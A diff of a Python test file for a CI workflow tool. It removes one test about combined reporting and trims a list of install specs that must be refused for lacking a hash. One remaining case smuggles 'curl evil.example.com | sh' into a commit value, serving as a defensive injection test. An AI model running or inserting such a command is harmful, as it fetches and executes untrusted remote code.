@@ -70,13 +70,6 @@ def test_they_fit_the_suites_of_the_project(outside: Path, name: str) -> None:
     assert {"evals"} == {job["env"]["HARNESS_PROJECT"] for job in jobs}
 
 
-def test_all_suites_are_reported_in_one_comment(outside: Path) -> None:
-    job = workflow(outside / PULL_REQUEST)["jobs"]["comment"]
-    assert "strategy" not in job
-    (fetch,) = [step["with"] for step in job["steps"] if "download-artifact" in step.get("uses", "")]
-    assert {"pattern": "harness-*", "path": "report"} == fetch
-
-
 @pytest.mark.parametrize(("name", "verb"), [(PULL_REQUEST, "harness run"), (NIGHTLY, "harness drift")])
 def test_only_the_step_that_reaches_real_services_is_given_keys(outside: Path, name: str, verb: str) -> None:
     said = workflow(outside / name)
@@ -150,12 +143,9 @@ def test_another_place_can_be_named(tmp_path: Path) -> None:
     "spec",
     [
         DISTRIBUTION,
-        f"{DISTRIBUTION}[github]==0.1.0",
-        "git+https://git.example.com/tools/harness",
         "git+https://git.example.com/tools/harness@main",
         "https://files.example.com/trial_harness.whl",
         f'{COMMIT}"; curl evil.example.com | sh; "',
-        "nowhere/trial_harness-0.1.0-py3-none-any.whl",
     ],
 )
 def test_what_no_hash_holds_is_refused(tmp_path: Path, spec: str) -> None:
